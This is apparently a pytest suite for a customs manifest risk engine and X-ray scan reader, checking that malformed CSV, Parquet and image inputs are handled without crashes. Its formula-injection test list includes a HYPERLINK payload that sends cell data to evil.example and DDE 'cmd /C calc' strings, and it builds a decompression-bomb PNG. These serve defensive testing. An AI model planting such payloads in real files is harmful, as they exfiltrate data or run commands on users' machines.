"""Bad input: every broken manifest file or scan image gets a clear error or quarantined rows,
in bounded memory, and never a crash.

Each case is a builder (writes the file) plus the outcome a user must see: either an error of a
documented type whose message says what is wrong, or ``rows in = valid + rejected`` with the
reason text of the rejected rows. ``benchmarks/bad_inputs.py`` runs the same cases and records
their outcomes and peak memory in ``benchmarks/results/bad_inputs.json`` and ``docs/bad_inputs.md``.
"""

from __future__ import annotations

import functools
import io
import json
import struct
import time
import tracemalloc
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
import tifffile
from click.testing import CliRunner

from riskengine.cli import main
from riskengine.schema import MANIFEST_COLUMNS, validate_file
from riskengine.synth import generate_manifests
from scanvision.io import ScanReadError, read_scan, write_transmission

N_ROWS = 40
MAX_MANIFEST_PEAK_MB = 64.0   # the largest case is a 20 MB file
MAX_IMAGE_PEAK_MB = 16.0      # the largest good image is 90 x 40 pixels


# --------------------------------------------------------------------------------------------
# Cases and measurement
# --------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    """A bad input: ``build(folder)`` writes it and returns its path; ``expect`` is the outcome.

    ``expect`` holds either ``error`` (exception type) and ``message`` (a part of its text), or
    ``valid`` and ``rejected`` counts with ``reason`` (a part of every reject's reason) and
    ``column`` (the column blamed); ``value`` is ``(column, text)`` that must survive decoding.
    """

    name: str
    description: str
    build: Callable[[Path], Path]
    expect: dict[str, Any] = field(default_factory=dict)


def measure(fn: Callable[[], Any]) -> tuple[Any, BaseException | None, float, float]:
    """Run ``fn``; return (result, exception, peak MB, seconds).

    Peak memory = Python allocations (``tracemalloc``, NumPy included) + the Arrow memory pool
    (the CSV/Parquet readers allocate there), each at its own peak.
    """
    previous = pa.default_memory_pool()
    proxy = pa.proxy_memory_pool(previous)
    pa.set_memory_pool(proxy)
    tracemalloc.start()
    t0 = time.perf_counter()
    result, error = None, None
    try:
        result = fn()
    except Exception as exc:  # the caller judges which types are documented
        error = exc
    finally:
        seconds = time.perf_counter() - t0
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        pa.set_memory_pool(previous)
    return result, error, (peak + proxy.max_memory()) / 2**20, seconds


@functools.lru_cache(maxsize=1)
def _base_frame() -> pd.DataFrame:
    return generate_manifests(N_ROWS, seed=4, start="2026-03-10")[list(MANIFEST_COLUMNS)].astype(object)


def base() -> pd.DataFrame:
    """40 valid manifests, values as objects (each case breaks a copy)."""
    return _base_frame().copy()


def _write(folder: Path, name: str, df: pd.DataFrame, **kw: Any) -> Path:
    path = folder / name
    df.to_csv(path, index=False, **kw)
    return path


def _with(**cells: tuple[int, Any]) -> pd.DataFrame:
    """The base frame with ``column=(row index, value)`` replacements (one per column)."""
    df = base()
    for col, (i, value) in cells.items():
        df.iat[i, df.columns.get_loc(col)] = value
    return df


def _set_rows(column: str, values: list[Any]) -> pd.DataFrame:
    df = base()
    for i, v in enumerate(values):
        df.iat[i + 1, df.columns.get_loc(column)] = v
    return df


def _unclosed_quote(folder: Path) -> Path:
    lines = base().to_csv(index=False).splitlines(keepends=True)
    lines[5] = lines[5].replace(",", ',"', 1)  # data row 5 opens a quote it never closes
    path = folder / "unclosed_quote.csv"
    path.write_text("".join(lines))
    return path


def _accented() -> pd.DataFrame:
    df = base()
    df.iat[0, df.columns.get_loc("goods_description")] = "CAFÉ TOSTADO EN GRANO"
    df.iat[1, df.columns.get_loc("shipper")] = "MÜLLER & SÖHNE GMBH"
    return df


def _cp1252(folder: Path) -> Path:
    df = _accented()
    df.iat[2, df.columns.get_loc("goods_description")] = "DÉCOR ARTICLES – 5 € EACH"  # en dash, euro: cp1252 only
    return _write(folder, "cp1252.csv", df, encoding="cp1252")


def _parquet_truncated(folder: Path) -> Path:
    good = folder / "good.parquet"
    base().astype("string").to_parquet(good, index=False)
    path = folder / "truncated.parquet"
    data = good.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def _binary(folder: Path) -> Path:
    path = folder / "garbage.csv"
    path.write_bytes(np.random.default_rng(0).integers(0, 256, 64 * 1024, dtype=np.uint8).tobytes())
    return path


MANIFEST_CASES: list[Case] = [
    Case("unclosed_quote", "CSV, data row 5 opens a quote it never closes", _unclosed_quote,
         {"valid": N_ROWS - 1, "rejected": 1, "column": "(line)", "reason": "check quoting"}),
    Case("delimiter_semicolon", "CSV separated by ';'",
         lambda d: _write(d, "semicolon.csv", base(), sep=";"), {"valid": N_ROWS, "rejected": 0}),
    Case("delimiter_tab", "CSV separated by tabs",
         lambda d: _write(d, "tab.tsv", base(), sep="\t"), {"valid": N_ROWS, "rejected": 0}),
    Case("encoding_latin1", "Latin-1 text with accents",
         lambda d: _write(d, "latin1.csv", _accented(), encoding="latin-1"),
         {"valid": N_ROWS, "rejected": 0, "value": ("goods_description", "CAFÉ TOSTADO EN GRANO")}),
    Case("encoding_cp1252", "Windows-1252 text with an en dash and a euro sign", _cp1252,
         {"valid": N_ROWS, "rejected": 0, "value": ("goods_description", "DÉCOR ARTICLES – 5 € EACH")}),
    Case("encoding_utf16_bom", "UTF-16 with a byte-order mark",
         lambda d: _write(d, "utf16.csv", _accented(), encoding="utf-16"),
         {"valid": N_ROWS, "rejected": 0, "value": ("shipper", "MÜLLER & SÖHNE GMBH")}),
    Case("encoding_utf8_bom", "UTF-8 with a byte-order mark",
         lambda d: _write(d, "utf8bom.csv", _accented(), encoding="utf-8-sig"),
         {"valid": N_ROWS, "rejected": 0, "value": ("goods_description", "CAFÉ TOSTADO EN GRANO")}),
    Case("text_in_numbers", "text in gross_weight_kg, packages, declared_value",
         lambda d: _write(d, "text_numbers.csv", _with(gross_weight_kg=(1, "heavy"), packages=(2, "ten"),
                                                       declared_value=(3, "12,5O0"))),
         {"valid": N_ROWS - 3, "rejected": 3, "reason": "is not a number"}),
    Case("bad_dates", "a day/month date, an impossible date, a word",
         lambda d: _write(d, "dates.csv", _with(filed_at=(1, "31/02/2026"), arrival_date=(2, "2026-02-30"),
                                                gate_in_at=(3, "tomorrow"))),
         {"valid": N_ROWS - 3, "rejected": 3, "reason": "is not a date/time"}),
    Case("huge_field_20mb", "a 20 MB goods_description on data row 2",
         lambda d: _write(d, "huge.csv", _with(goods_description=(1, "A" * (20 << 20)))),
         {"valid": N_ROWS - 1, "rejected": 1, "column": "(line)", "reason": "more than the limit of 1,048,576 bytes"}),
    Case("long_field_500kb", "a 500 kB goods_description (under the line limit)",
         lambda d: _write(d, "long.csv", _with(goods_description=(1, "B" * 500_000))),
         {"valid": N_ROWS - 1, "rejected": 1, "column": "goods_description", "reason": "longer than 2000 characters"}),
    Case("nan_inf", "NaN, inf and -inf in weights and value",
         lambda d: _write(d, "nan_inf.csv", _with(gross_weight_kg=(1, "NaN"), vgm_kg=(2, "inf"),
                                                  declared_value=(3, "-inf"))),
         {"valid": N_ROWS - 3, "rejected": 3, "reason": "gross_weight_kg 'NaN' is not a number|vgm_kg is infinite|declared_value is infinite"}),
    Case("negative_weights", "negative gross weight and VGM",
         lambda d: _write(d, "negative.csv", _with(gross_weight_kg=(1, "-5"), vgm_kg=(2, "-28000"))),
         {"valid": N_ROWS - 2, "rejected": 2, "reason": "is negative"}),
    Case("container_numbers", "bad check digit, 10 and 12 characters, digits for letters",
         lambda d: _write(d, "containers.csv", _set_rows("container_id", ["CSQU3054384", "CSQU305438",
                                                                           "CSQU30543833", "C5QU3054383"])),
         {"valid": N_ROWS - 4, "rejected": 4, "column": "container_id", "reason": "is not an ISO 6346 number"}),
    Case("duplicate_ids", "data rows 5 and 6 share a manifest_id",
         lambda d: _write(d, "dup.csv", _with(manifest_id=(5, _base_frame().iat[4, 0]))),
         {"valid": N_ROWS - 1, "rejected": 1, "column": "manifest_id", "reason": "duplicate manifest_id"}),
    Case("empty_file", "0 bytes", lambda d: _touch(d / "empty.csv", b""),
         {"error": "ValueError", "message": "manifest file is empty"}),
    Case("header_only", "the header line and no rows",
         lambda d: _touch(d / "header.csv", (",".join(MANIFEST_COLUMNS) + "\n").encode()),
         {"valid": 0, "rejected": 0}),
    Case("binary_garbage", "64 kB of random bytes named .csv", _binary,
         {"error": "ValueError", "message": "is not a text CSV file"}),
    Case("missing_column", "no vgm_kg column",
         lambda d: _write(d, "no_vgm.csv", base().drop(columns=["vgm_kg"])),
         {"error": "SchemaError", "message": "missing required column(s) ['vgm_kg']"}),
    Case("parquet_truncated", "a Parquet file cut in half", _parquet_truncated,
         {"error": "ValueError", "message": "cannot read Parquet file"}),
]


def _touch(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def run_manifest_case(path: Path, quarantine: Path) -> dict[str, Any]:
    """What ``riskengine validate`` does with the file; documented errors become an outcome."""
    result, error, peak_mb, seconds = measure(lambda: validate_file(path, quarantine=quarantine))
    out: dict[str, Any] = {"input_bytes": path.stat().st_size, "peak_mb": round(peak_mb, 2),
                           "seconds": round(seconds, 3)}
    if error is not None:
        if not isinstance(error, (ValueError, FileNotFoundError)):
            raise error  # anything else is a crash
        return {**out, "error": type(error).__name__, "message": str(error)}
    q = pd.read_csv(quarantine, dtype=str, keep_default_na=False) if quarantine.exists() else pd.DataFrame()
    return {**out, "rows": result["rows"], "valid": result["valid"], "rejected": result["rejected"],
            "top_reason": result["top_reasons"][0]["reason"] if result["top_reasons"] else None,
            "reasons": q["reject_reason"].tolist() if len(q) else [],
            "columns": q["reject_column"].tolist() if len(q) else []}


# ---- images ----------------------------------------------------------------------------------

def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def _png(width: int, height: int, depth: int, colour: int, rows: bytes) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", zlib.compress(rows))
            + _png_chunk(b"IEND", b""))


def _transmission() -> np.ndarray:
    return np.random.default_rng(3).uniform(0.05, 1.0, (40, 90)).astype(np.float32)


def _good_png(folder: Path) -> Path:
    return write_transmission(folder / "good_raw16.png", _transmission())


def _truncated_png(folder: Path) -> Path:
    data = _good_png(folder).read_bytes()
    return _touch(folder / "truncated.png", data[: len(data) // 2])


def _one_bit_png(folder: Path) -> Path:
    rows = b"".join(b"\x00" + bytes([0b10101010, 0b01010101]) for _ in range(8))
    return _touch(folder / "one_bit.png", _png(16, 8, 1, 0, rows))


def _float_tiff(folder: Path) -> Path:
    buf = io.BytesIO()
    tifffile.imwrite(buf, _transmission())  # 32-bit float samples
    return _touch(folder / "float32.tif", buf.getvalue())


def _rgb16_png(folder: Path) -> Path:
    ok, enc = cv2.imencode(".png", np.full((20, 30, 3), 40_000, np.uint16))
    assert ok
    return _touch(folder / "rgb16.png", enc.tobytes())


def _rgb16_tiff(folder: Path) -> Path:
    buf = io.BytesIO()
    tifffile.imwrite(buf, np.full((20, 30, 3), 40_000, np.uint16), photometric="rgb")
    return _touch(folder / "rgb16.tif", buf.getvalue())


def _bomb_png(folder: Path) -> Path:
    """A 100-byte PNG whose header claims 50 000 x 50 000 16-bit pixels (5 GB decoded)."""
    return _touch(folder / "bomb.png", _png(50_000, 50_000, 16, 0, b"\x00" * 1024))


IMAGE_CASES: list[Case] = [
    Case("truncated_png", "a 16-bit PNG cut in half", _truncated_png,
         {"error": "ScanReadError", "message": "truncated PNG"}),
    Case("empty_image", "0 bytes named .png", lambda d: _touch(d / "empty.png", b""),
         {"error": "ScanReadError", "message": "the file is empty (0 bytes)"}),
    Case("one_bit_png", "a 1-bit black and white PNG", _one_bit_png,
         {"error": "ScanReadError", "message": "1-bit PNG is not supported"}),
    Case("float32_tiff", "a 32-bit float TIFF", _float_tiff,
         {"error": "ScanReadError", "message": "32-bit TIFF is not supported"}),
    Case("rgb16_png", "a 16-bit RGB PNG", _rgb16_png,
         {"error": "ScanReadError", "message": "16-bit PNG with RGB channels"}),
    Case("rgb16_tiff", "a 16-bit RGB TIFF", _rgb16_tiff,
         {"error": "ScanReadError", "message": "16-bit TIFF with 3 samples per pixel"}),
    Case("bomb_png_50k", "a PNG header claiming 50 000 x 50 000 pixels", _bomb_png,
         {"error": "ScanReadError", "message": "refused before decoding"}),
    Case("text_as_png", "a CSV file named .png",
         lambda d: _touch(d / "manifest.png", b"manifest_id,container_id\nM1,CSQU3054383\n"),
         {"error": "ScanReadError", "message": "not an image: the file starts with b'manifest'"}),
    Case("text_as_jpg", "an HTML page named .jpg",
         lambda d: _touch(d / "page.jpg", b"<!DOCTYPE html><html><body>404</body></html>"),
         {"error": "ScanReadError", "message": "not an image"}),
]


def run_image_case(path: Path) -> dict[str, Any]:
    """What the scan reader does with the file; documented errors become an outcome."""
    scan, error, peak_mb, seconds = measure(lambda: read_scan(path))
    out: dict[str, Any] = {"input_bytes": path.stat().st_size, "peak_mb": round(peak_mb, 2),
                           "seconds": round(seconds, 3)}
    if error is not None:
        if not isinstance(error, (ScanReadError, FileNotFoundError)):
            raise error
        return {**out, "error": type(error).__name__, "message": str(error)}
    return {**out, "kind": scan.kind, "width": scan.width, "height": scan.height}


# --------------------------------------------------------------------------------------------
# Manifest files
# --------------------------------------------------------------------------------------------

@pytest.fixture(scope="module", autouse=True)
def _warm_up(tmp_path_factory):
    # First calls import and cache (pyarrow CSV, pandas, codecs); measure steady state.
    d = tmp_path_factory.mktemp("warm")
    run_manifest_case(_write(d, "ok.csv", base()), d / "q.csv")
    run_image_case(_good_png(d))


@pytest.mark.parametrize("case", MANIFEST_CASES, ids=lambda c: c.name)
def test_bad_manifest_file(case: Case, tmp_path: Path) -> None:
    path = case.build(tmp_path)
    out = run_manifest_case(path, tmp_path / "quarantine.csv")
    exp = case.expect
    assert out["peak_mb"] < MAX_MANIFEST_PEAK_MB, out
    if "error" in exp:
        assert out.get("error") == exp["error"], out
        assert exp["message"] in out["message"]
        assert str(path) in out["message"] or exp["error"] == "SchemaError"
        return
    assert "error" not in out, out
    # Nothing lost: every row read is valid or quarantined with a reason.
    assert out["rows"] == out["valid"] + out["rejected"] == exp["valid"] + exp["rejected"]
    assert (out["valid"], out["rejected"]) == (exp["valid"], exp["rejected"])
    assert len(out["reasons"]) == out["rejected"]
    for reason in out["reasons"]:
        assert any(part in reason for part in exp["reason"].split("|")), reason
    if "column" in exp:
        assert set(out["columns"]) == {exp["column"]}
    if "value" in exp:
        from riskengine.schema import read_manifests, validate

        col, text = exp["value"]
        assert text in set(validate(read_manifests(path)).valid[col])


def test_unclosed_quote_rejects_only_its_line(tmp_path):
    out = run_manifest_case(_unclosed_quote(tmp_path), tmp_path / "q.csv")
    q = pd.read_csv(tmp_path / "q.csv", dtype=str)
    assert q["source_row"].tolist() == ["5"]
    assert "fields where the header has 31" in out["reasons"][0]


def test_huge_field_is_refused_without_reading_it(tmp_path):
    path = _write(tmp_path, "huge.csv", _with(goods_description=(1, "A" * (20 << 20))))
    out = run_manifest_case(path, tmp_path / "q.csv")
    assert out["input_bytes"] > 20 << 20
    q = pd.read_csv(tmp_path / "q.csv", dtype=str)
    assert q["source_row"].tolist() == ["2"]
    assert q["reject_reason"].iloc[0].startswith("line is 20,9")
    # The line never enters memory: far less than the field itself.
    assert out["peak_mb"] < 20


def test_validate_and_ingest_commands_report_unreadable_files(tmp_path):
    garbage = _binary(tmp_path)
    res = CliRunner().invoke(main, ["validate", "--data", str(garbage)])
    text = " ".join(res.output.split())  # the console wraps long lines
    assert res.exit_code == 1
    assert text.startswith("ValueError: ") and "is not a text CSV file" in text
    res = CliRunner().invoke(main, ["ingest", "--data", str(garbage), "--db", str(tmp_path / "s.db"),
                                    "--quarantine", str(tmp_path / "q")])
    assert res.exit_code == 1 and "is not a text CSV file" in " ".join(res.output.split())


# --------------------------------------------------------------------------------------------
# CSV the engine writes: no cell runs as a spreadsheet formula
# --------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def formula_manifests() -> pd.DataFrame:
    """The base frame with a formula as the weight (rejected: not a number) and the consignee
    of the first rows, and a negative weight (a plain number, rejected too)."""
    df = base()
    for k, f in enumerate(FORMULAS):
        df.iat[k, df.columns.get_loc("gross_weight_kg")] = f
        df.iat[k, df.columns.get_loc("consignee")] = f
    df.iat[len(FORMULAS), df.columns.get_loc("gross_weight_kg")] = "-5"
    return df


def csv_cells(path: Path) -> list[str]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def formula_cells(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: a formula character first, and not a plain number."""
    import re

    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not re.fullmatch(r"[+-]?\d+(\.\d*)?", c)]


def test_csv_files_the_engine_writes_never_start_a_formula(tmp_path):
    from riskengine.cli.model_cmd import _TableWriter
    from riskengine.ingest import write_quarantine_part
    from riskengine.schema import read_manifests, validate

    data = _write(tmp_path, "formulas.csv", formula_manifests())
    quarantine = tmp_path / "q.csv"
    res = CliRunner().invoke(main, ["validate", "--data", str(data), "--quarantine", str(quarantine)])
    assert res.exit_code == 0, res.output
    part = write_quarantine_part(validate(read_manifests(data)).rejects, tmp_path / "quarantine-00000.csv",
                                 source=str(data), batch=0)  # riskengine ingest --quarantine-format csv
    scores = tmp_path / "scores.csv"  # riskengine score --out scores.csv
    writer = _TableWriter(scores)
    writer.write(pd.DataFrame({"manifest_id": ["=1+1", "M2"], "risk_score": [0.25, 0.5],
                               "reasons": ["@SUM(A1:A9) | origin EC", "origin EC"]}))
    writer.write(pd.DataFrame({"manifest_id": ["-1+1"], "risk_score": [0.75], "reasons": ["+cmd"]}))
    for path in (quarantine, part, scores):
        cells = csv_cells(path)
        assert formula_cells(cells) == [], f"{path.name}: {formula_cells(cells)}"
    cells = csv_cells(quarantine)
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells and "'" + FORMULAS[4] in cells
    assert "-5" in cells  # a negative number stays a number
    assert csv_cells(scores)[:3] == ["manifest_id", "risk_score", "reasons"]
    assert [r["manifest_id"] for r in pd.read_csv(scores).to_dict("records")] == ["'=1+1", "M2", "'-1+1"]
    # Text cells are quoted, so a separator inside a cell cannot start a new one.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"' in quarantine.read_text()


# --------------------------------------------------------------------------------------------
# Scan images
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("case", IMAGE_CASES, ids=lambda c: c.name)
def test_bad_scan_image(case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = case.build(tmp_path)
    if case.name == "bomb_png_50k":
        def decoded(*a, **k):
            raise AssertionError("the pixels of a refused image were decoded")

        monkeypatch.setattr(cv2, "imdecode", decoded)
    out = run_image_case(path)
    assert out["peak_mb"] < MAX_IMAGE_PEAK_MB, out
    assert out.get("error") == case.expect["error"], out
    assert case.expect["message"] in out["message"]
    assert str(path) in out["message"]  # says which file


def test_good_images_still_read(tmp_path):
    out = run_image_case(_good_png(tmp_path))
    assert (out["kind"], out["width"], out["height"]) == ("raw16", 90, 40)


@pytest.fixture(scope="module")
def scan_model() -> Path:
    from scanvision.infer import default_model_dir

    d = default_model_dir()
    if not (d / "config.json").is_file():
        pytest.skip("the shipped scan model is not built")
    return d


def test_triage_reports_each_bad_file_and_triages_the_good_ones(scan_model, tmp_path):
    good = [_good_png(tmp_path)]
    jpg = tmp_path / "display.jpg"
    cv2.imwrite(str(jpg), (255 * _transmission()).astype(np.uint8))
    good.append(jpg)
    bad = [case.build(tmp_path) for case in IMAGE_CASES]
    files = [good[0], *bad[:4], good[1], *bad[4:]]
    res = CliRunner().invoke(main, ["triage", "--model", str(scan_model), "--json", *map(str, files)])
    assert res.exit_code == 1
    rows = [json.loads(line) for line in res.stdout.splitlines() if line.startswith("{")]
    assert [r["path"] for r in rows] == [str(f) for f in files]
    by_path = {r["path"]: r for r in rows}
    for f in good:
        assert 0.0 <= by_path[str(f)]["concealment_score"] <= 1.0
    for case, f in zip(IMAGE_CASES, bad, strict=True):
        assert case.expect["message"] in by_path[str(f)]["error"]

    table = CliRunner().invoke(main, ["triage", "--model", str(scan_model), *map(str, files)])
    assert table.exit_code == 1
    errors = [line for line in table.stderr.splitlines() if line.startswith("ScanReadError: ")]
    assert len(errors) == len(bad)
    assert f"{len(bad)} of {len(files)} scan(s) could not be triaged" in table.stderr
    assert "good_raw16.png" in table.stdout and "display.jpg" in table.stdout
